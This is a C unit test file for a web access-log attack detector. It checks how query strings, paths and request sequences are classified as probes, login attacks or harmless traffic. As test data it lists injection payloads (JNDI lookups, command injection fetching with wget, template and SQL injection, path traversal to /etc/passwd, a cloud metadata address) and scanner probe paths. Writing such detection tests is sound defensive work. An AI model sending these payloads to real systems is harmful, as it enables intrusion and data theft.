/* SPDX-License-Identifier: Apache-2.0 */
/* Two or three requests that only an attack has, and what looks like them and is none. */
#include "detect/conduct.h"

#include "base/check.h"
#include "decode/accesslog.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

static const char browser[] = "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Firefox/125.0";
static const char google[] = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
static const struct address_key key = {{42, 0x9e3779b97f4a7c15, 0xbf58476d1ce4e5b9,
					0x94d049bb133111eb}};
static struct web_agents agents;
static struct accesslog reader;

/* A line of a log, read as a line of a log is. `what`: "GET /path" or "PUT …". */
static void see(struct conduct *c, unsigned s, const char *client, const char *what, int status,
		const char *referer, const char *agent)
{
	char line[1024];
	struct request r;
	int len = snprintf(line, sizeof(line),
			   "%s - - [01/May/2024:10:%02u:%02u +0000] \"%s HTTP/1.1\" %d 10 \"%s\" \"%s\"",
			   client, s / 60 % 60, s % 60, what, status,
			   referer != NULL ? referer : "-", agent != NULL ? agent : browser);

	assert_int_equal(accesslog_read(&reader, line, (size_t)len, &r, NULL), WD_OK);
	const struct web_facts facts = web_facts_of(&agents, &key, &r);
	conduct_see(c, &r, &facts);
}

static struct conduct *fresh(void)
{
	struct conduct *c = malloc(sizeof(*c));
	struct conduct_table *t = NULL;

	assert_non_null(c);
	assert_int_equal(conduct_table_open(&key, CONDUCT_ROWS, &t), WD_OK);
	conduct_init(c, t, "shop");
	return c;
}

/* What was noted first; NULL: nothing. */
static const char *done(struct conduct *c)
{
	const char *vector = c->note_count > 0 ? client_note_vector(&c->notes[0]) : NULL;

	conduct_table_close(c->table);
	free(c);
	return vector;
}

static void expect(struct conduct *c, const char *vector, const char *what)
{
	const char *noted = done(c);

	if (noted == NULL ? vector != NULL : vector == NULL || strcmp(noted, vector) != 0)
		fail_msg("%s: %s", what, noted != NULL ? noted : "not noted");
}

static void words_are_sorted(void **state)
{
	static const struct { const char *query; enum conduct_sort sort;
	} queries[] = {
		{"x=${jndi:ldap://a}", CONDUCT_SURE},
		{"x=$%7Bjndi:dns://a", CONDUCT_SURE},
		{"x=%2524%257Bjndi%253Aldap", CONDUCT_SURE},
		{"n={{7*7}}", CONDUCT_SURE},
		{"n=${233*233}", CONDUCT_SURE},
		{"u=http://169.254.169.254/", CONDUCT_SURE},
		{"h=1;wget+http://e/x", CONDUCT_SURE},
		{"h=$(whoami)", CONDUCT_SURE},
		{"h=`id`", CONDUCT_PERHAPS}, {"h=`cat%20/etc/x`", CONDUCT_SURE}, {"h=%27;id;%27", CONDUCT_PERHAPS},
		{"h=1%0aid", CONDUCT_PERHAPS},
		{"h=1%26nslookup+x.example%26", CONDUCT_SURE},
		{"h=1|busybox${IFS}x", CONDUCT_SURE},
		{"n={{a.__class__}}", CONDUCT_SURE},
		{"n=<%25=7*7%25>", CONDUCT_SURE},
		{"n={{cfg.get('a')}}", CONDUCT_PERHAPS},
		/* two that somebody might write, together */
		{"f=../../etc/passwd", CONDUCT_SURE},
		{"f=..%2fwp-config.php", CONDUCT_SURE},
		{"id=1%20union%20select%201%20from%20information_schema.t", CONDUCT_SURE},
		{"x=%3Cscript%3Ealert(1)", CONDUCT_SURE},
		{"x=%3Cimg+a%3E%3Csvg%3E", CONDUCT_PERHAPS},
		/* what people look for: browsers escape it */
		{"q=%3Cscript%3Ealert(1)&page=2", CONDUCT_TYPED},
		{"q=$%7Bjndi:ldap", CONDUCT_TYPED},
		{"q=<script>alert(1)", CONDUCT_SURE},
		{"q=a&x=${jndi:ldap}", CONDUCT_SURE},
		{"s=/x/\\think\\app/invokefunction&function=call_user_func_array", CONDUCT_SURE},
		{"x=%u003Cscript%u003E", CONDUCT_PERHAPS},
		{"x=\\u003cscript\\u003e", CONDUCT_PERHAPS},
		{"id=1%27/**/union/**/select/**/1", CONDUCT_SURE},
		{"id=1%20/*!50000union*//*!50000select*/1", CONDUCT_SURE},
		{"id=1%27%20%20union%09select", CONDUCT_PERHAPS},
		{"id=1%20AND%208473%3D1192", CONDUCT_PERHAPS},
		{"id=1%27+oR+%27a%27=%27a", CONDUCT_PERHAPS},
		{"f=..%c0%af..%c0%afa", CONDUCT_SURE},
		{"f=../x", CONDUCT_TYPED},
		{"f=../../../x", CONDUCT_PERHAPS},
		{"id=1+UNION+SELECT+1", CONDUCT_PERHAPS},
		{"id=5%27/**/or/**/1=1", CONDUCT_SURE},
		{"h=1;cat+/etc/x", CONDUCT_PERHAPS},
		{"h=1;ls+-l", CONDUCT_PERHAPS},
		/* none: what consoles and maps send; what a page forgot to fill */
		{"sql_query=SELECT+*+FROM+information_schema.tables+--+'", CONDUCT_NONE},
		{"where=NAME+LIKE+%27A%25%27+AND+1=1", CONDUCT_NONE},
		{"cql=a%3D2%20AND%201%3D1", CONDUCT_NONE},
		{"a=${GDPR_CONSENT_755}&b={{campaign.id}}&c=$(date)", CONDUCT_NONE},
		{"name=a;id=5|b", CONDUCT_NONE},
		{"f=id;cat;ls|sh", CONDUCT_NONE}, {"tags=bash|curl;wget", CONDUCT_NONE},
		{"tex=%5Cfrac%7B7%7D%7B7*x%7D", CONDUCT_NONE}, {"a={7*7}", CONDUCT_TYPED},
		{"t=this;+cat+pictures", CONDUCT_NONE},
		{"a=1%26id%3D5", CONDUCT_NONE},
		{"$filter=contains(Name,'O''Neil')%20and%20concat(A,B)%20eq%20'x'", CONDUCT_NONE},
		{"name=O%27Neill+and+sons", CONDUCT_NONE},
		{"q=rock+%27n%27+roll+and+more", CONDUCT_NONE},
		{"a=1&or=2&and=3%20", CONDUCT_NONE},
		{"v=$(VERSION)", CONDUCT_NONE},
		{"q=function()+%7B+return", CONDUCT_NONE},
		{"q=freemarker%20guide", CONDUCT_NONE},
		{"sort=char(name)", CONDUCT_NONE},
		{"f=%7B%22a%22:1%7D", CONDUCT_NONE},
		{"where=a%20and%20b%3Dc", CONDUCT_NONE},
		{"x={12*}", CONDUCT_NONE},
		{"x=%", CONDUCT_NONE},
		{"x=%u00", CONDUCT_NONE},
		{"x=%u003", CONDUCT_NONE},
		{"/*!", CONDUCT_NONE},
	};
	static const struct { const char *path; bool found; } paths[] = {
		{"/a/..%2fb", true}, {"/a/;/b", true}, {"/a/b;c=1/d", false}, {"/a/..%5cb", true}, {"/$%7Bimage%7D", false},
		{"/wiki/Semicolon;_and_colon", false},
		{"/../images/logo", false}, {"/a/../b", false}, {"/../../x", true},
		{"/a/../../../x", true}, {"/a/../b/../c/../d", true}, {"/a/%2e%2e/b", true},
		{"/tmui/login.jsp/..;/x", true},
	};
	struct conduct_lists l;
	(void)state;
	conduct_lists_prepare(&l);
	for (size_t i = 0; i < WD_COUNT(queries); i++) {
		struct text_span q = {queries[i].query, (uint32_t)strlen(queries[i].query)};
		enum conduct_sort sort = conduct_injection_of(&l, (struct text_span){NULL, 0}, q);
		if (sort != queries[i].sort)
			fail_msg("%s is %d", queries[i].query, sort);
	}
	for (size_t i = 0; i < WD_COUNT(paths); i++) {
		struct text_span p = {paths[i].path, (uint32_t)strlen(paths[i].path)};
		if ((conduct_injection_of(&l, p, (struct text_span){NULL, 0}) != 0) != paths[i].found)
			fail_msg("%s", paths[i].path);
	}
}

/* Each by one client, a request a second. */
static void few_requests_of_an_attack_are_enough(void **state)
{
	static const struct { int status; const char *what[8]; } all[] = {
		{200, {"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
		       "POST /lib/phpunit/src/Util/PHP/eval-stdin.php"}},
		{200, {"GET /api/.env", "GET /app/.env", "GET /.git/config"}},
		{503, {"GET /.env", "GET /wp-login.php", "GET /shell.php"}},
		{404, {"GET /a.php", "GET /b.php", "GET /c.php", "GET /d.php",
		       "GET /e.php"}},
		{404, {"GET /c99.php"}}, {404, {"POST /functionRouter"}},
		{404, {"GET /global-protect/login.esp", "GET /+CSCOE+/logon.html"}},
		{404, {"POST /HNAP1/", "GET /HNAP1/"}},
		{404, {"GET /getphpinfo.php/.css"}},
		{404, {"GET /.env", "GET /app/.git/config"}},
		{404, {"GET /+CSCOT+/t?domain=/x.lua&lang=../"}},
		{404, {"GET /.travis/x", "GET /.circle/y", "GET /.gitea/z"}},
		{404, {"POST /a.php", "POST /b.php", "POST /c.php"}},
		{404, {"PUT /put", "DELETE /home", "POST /upload", "POST /sync", "POST /import",
		       "POST /export", "POST /hook"}},
		{200, {"GET /wp-json/wp/v2/users", "GET /?author=1", "GET /?author=2",
		       "GET /?author=3", "GET /?author=4"}},
		{200, {"GET /?x=${jndi:ldap://a.example/a}"}},
		{200, {"GET /p?f=../../../etc/passwd"}},
		{200, {"GET /server-info.action?a=b", "GET /setup/setupadministrator.action"}},
		{400, {"GET /x?v=exec(java.lang.Runtime.getRuntime(),%27id%27)",
		       "GET /x?v=exec(java.lang.Runtime.getRuntime(),%27id%27)"}},
		{200, {"GET /wp-content/plugins/a/readme.txt", "GET /wp-content/plugins/x/readme.txt",
		       "GET /wp-content/plugins/y/readme.txt"}},
		{405, {"PUT /x.jsp/", "PUT /shell.jsp", "PUT /evil.php"}},
	};
	(void)state;
	for (size_t i = 0; i < WD_COUNT(all); i++) {
		struct conduct *c = fresh();
		for (unsigned k = 0; k < 8 && all[i].what[k] != NULL; k++)
			see(c, k, "192.0.2.1", all[i].what[k], all[i].status, NULL, NULL);
		expect(c, "http.probe", all[i].what[0]);
	}
	/* Of five clients that begin so it is told of all. */
	for (unsigned clients = 1; clients <= 5; clients++) {
		struct conduct *c = fresh();
		char client[16];
		bool many = false;
		for (unsigned k = 0; k < clients; k++) {
			snprintf(client, sizeof(client), "192.0.2.%u", k + 1);
			see(c, k, client, "GET /?x=${jndi:ldap://a.example/a}", 200,
			    "https://a.example/", NULL);
		}
		for (unsigned i = 0; i < c->note_count; i++)
			many |= c->notes[i].many && c->notes[i].marked == 5;
		assert_true(many == (clients == 5));
		expect(c, clients < 5 ? NULL : "http.probe", "many clients");
	}
}

/* Nothing of it is noted, however it looks: it was typed, followed, or is the owner's. */
static void one_request_that_has_a_reason_is_not_enough(void **state)
{
	static const char site[] = "https://a.example/", app[] = "Client/1.0";
	static const struct { int status; const char *referer, *agent, *what[6]; } all[] = {
		{200, site, NULL, {"GET /s?q=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D", "GET /s?q=%3Cscript%3E",
				   "GET /s?q=cat+%2Fetc%2Fpasswd", "GET /s?q=curl+%7C+bash"}},
		{200, NULL, NULL, {"GET /s?q=%24%7Bjndi%3Aldap%3A%2F%2Fa%7D"}},
		{200, site, NULL, {"GET /p?x=${jndi:ldap://a}"}},
		{200, NULL, google, {"GET /p?x=${jndi:ldap://a}"}},
		{404, NULL, google, {"GET /vendor/eval-stdin.php"}},
		{404, site, NULL, {"GET /vendor/eval-stdin.php"}},
		/* the owner's host knows it, whatever it answers */
		{200, NULL, app, {"POST /functionRouter", "POST /functionRouter", "POST /functionRouter"}},
		{401, NULL, app, {"POST /mgmt/shared/authn/login", "GET /mgmt/tm/sys"}},
		{200, NULL, app, {"GET /manager/text/list", "GET /manager/status", "GET /jolokia/read"}},
		{200, NULL, NULL, {"GET /man/etc/passwd", "GET /man/etc/shadow.html", "GET /man/proc/self"}},
		/* a client of a gateway that is elsewhere now */
		{404, NULL, "PAN GlobalProtect/6.0", {"POST /global-protect/prelogin.esp",
						      "POST /global-protect/getconfig.esp"}},
		{404, NULL, "Microsoft Office/16.0", {"POST /autodiscover/autodiscover.xml",
			"POST /Autodiscover/Autodiscover.xml", "GET /autodiscover/autodiscover.json",
			"GET /autodiscover/autodiscover.json/v1.0/a%40b.example"}},
		/* words that others have, too, on a host of theirs */
		{404, NULL, NULL, {"GET /vpns/the-best", "GET /logoutconfirm.html"}},
		{404, NULL, NULL, {"POST /api/v1/validate/code", "GET /app/config.export"}},
		{404, NULL, NULL, {"GET /containers/create", "GET /app/programexport"}},
		{404, NULL, "Zabbix 6.4", {"GET /solr/admin/cores", "GET /jolokia"}},
		{404, NULL, google, {"GET /remote/login", "GET /owa/auth/logon.aspx",
				     "GET /manager/html", "GET /wp-login.php"}},
		{404, site, NULL, {"GET /docs/.vitepress/a", "GET /.netlify/functions/b",
				   "GET /.netlify/identity/c", "GET /.tool/x", "GET /.docs/y"}},
		{302, NULL, NULL, {"GET /login?next=../account", "GET /return?to=../../shop/"}},
		{200, NULL, NULL, {"GET /x?f=id|name|sh", "GET /x?f=id;cat;ls", "GET /x?f=name|id"}},
		/* a backup has a file of every name */
		{404, NULL, "rclone/v1.6", {"HEAD /b/.env", "HEAD /b/.git/config", "HEAD /b/x.sql",
					    "HEAD /b/.ssh/id_rsa", "HEAD /b/wp-config.php"}},
		{404, NULL, "curl/8", {"GET /dist/a-1.2.tar.gz", "GET /dist/b.zip", "GET /dist/c.tgz"}},
		/* what led there has what was forgotten in its address */
		{200, "https://a.example/?c=${CLICK_ID}", NULL, {"GET /a", "GET /b", "GET /c"}},
		{204, site, NULL, {"POST /m?url=https%3A%2F%2Fa.example%2F..%2Fa&rand=1",
				   "POST /m?url=https%3A%2F%2Fa.example%2F..%2Fa&rand=1",
				   "POST /m?url=https%3A%2F%2Fa.example%2F..%2Fa&rand=1",
				   "POST /m?url=https%3A%2F%2Fa.example%2F..%2Fa&rand=1"}},
	};
	(void)state;
	for (size_t i = 0; i < WD_COUNT(all); i++) {
		struct conduct *c = fresh();
		for (unsigned k = 0; k < 6 && all[i].what[k] != NULL; k++)
			see(c, k, "192.0.2.1", all[i].what[k], all[i].status, all[i].referer,
			    all[i].agent);
		expect(c, NULL, all[i].what[0]);
	}
}

struct repeated {
	const char *vector;
	unsigned count, every; /* seconds */
	int status;
	const char *what, *agent, *referer; /* # in `what`: a word of its own each time */
};

static const char *const words[] = {
	"anna", "bob", "carla", "dan", "erik", "fiona", "greg", "hana", "ivan", "judy", "kurt",
	"lena", "mike", "nora", "olga", "paul", "quinn", "rosa", "sven", "tina",
};

static void play(const struct repeated *x)
{
	struct conduct *c = fresh();
	char what[128];
	const char *mark = strchr(x->what, '#');

	for (unsigned i = 0; i < x->count; i++) {
		if (mark != NULL)
			snprintf(what, sizeof(what), "%.*s%s%s", (int)(mark - x->what), x->what,
				 words[i % WD_COUNT(words)], mark + 1);
		else
			snprintf(what, sizeof(what), "%s", x->what);
		see(c, i * x->every, "192.0.2.1", what, x->status, x->referer, x->agent);
	}
	expect(c, x->vector, x->what);
}

static void programs_that_ask_for_much_are_told_from_searches(void **state)
{
	static const struct repeated all[] = {
		{"http.probe", 20, 1, 404, "GET /#", NULL, NULL},
		{NULL, 20, 1, 404, "GET /maven2/org/#/x.pom", "Apache-Maven/3.9.6", NULL},
		{NULL, 20, 1, 404, "HEAD /repo/#/maven-metadata.xml", "Gradle/8.5", NULL},
		{NULL, 20, 1, 404, "GET /api/v1/users/#/avatar", "okhttp/4.12.0", NULL},
		{NULL, 60, 0, 401, "POST /inbox", "Mastodon/4.2 (http.rb/5; +https://a.example/)", NULL},
	};
	(void)state;
	for (size_t i = 0; i < WD_COUNT(all); i++)
		play(&all[i]);
}

static void sign_ins_of_many_applications(void **state)
{
	static const struct repeated all[] = {
		{"http.login", 20, 1, 200, "POST /phpmyadmin/index.php", NULL, NULL},
		{"http.login", 20, 1, 200, "POST /phpmyadmin/index.php?route=/", NULL, NULL},
		{"http.login", 20, 1, 200, "POST /login.php", "python-requests/2.31.0", NULL},
		{"http.login", 12, 1, 422, "POST /session", NULL, NULL},
		{"http.login", 12, 1, 401, "POST /api2/json/access/ticket", "python-requests/2", NULL},
		{"http.login", 20, 1, 200, "POST /index.php?route=account/login", NULL, NULL},
		{NULL, 100, 1, 200, "POST /phpmyadmin/index.php?route=/sql", NULL, NULL},
		{NULL, 200, 1, 200, "POST /connect/token", "Java/17", NULL},
		{NULL, 200, 3, 200, "POST /v1/login", "okhttp/4.12.0", NULL},
		{NULL, 200, 2, 200, "POST /xmlrpc.php?for=jetpack&token=x", "Jetpack", NULL},
		{NULL, 200, 5, 200, "POST /session", NULL, "https://shop.example/"},
	};
	(void)state;
	for (size_t i = 0; i < WD_COUNT(all); i++)
		play(&all[i]);
	/* An office behind one address on a host where people sign in and nothing else; and one
	 * program there. */
	for (int one = 0; one < 2; one++) {
		struct conduct *c = fresh();
		for (unsigned i = 0; i < 200; i++) {
			char agent[64];
			snprintf(agent, sizeof(agent), "Mozilla/5.0 (%s)",
				 words[one ? 0 : i * 7 % WD_COUNT(words)]);
			see(c, i * 2, "192.0.2.1", "POST /auth/sign", 302, "https://sso.example/",
			    agent);
		}
		expect(c, one ? "http.login" : NULL, "an office");
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(words_are_sorted),
		cmocka_unit_test(few_requests_of_an_attack_are_enough),
		cmocka_unit_test(one_request_that_has_a_reason_is_not_enough),
		cmocka_unit_test(programs_that_ask_for_much_are_told_from_searches),
		cmocka_unit_test(sign_ins_of_many_applications),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
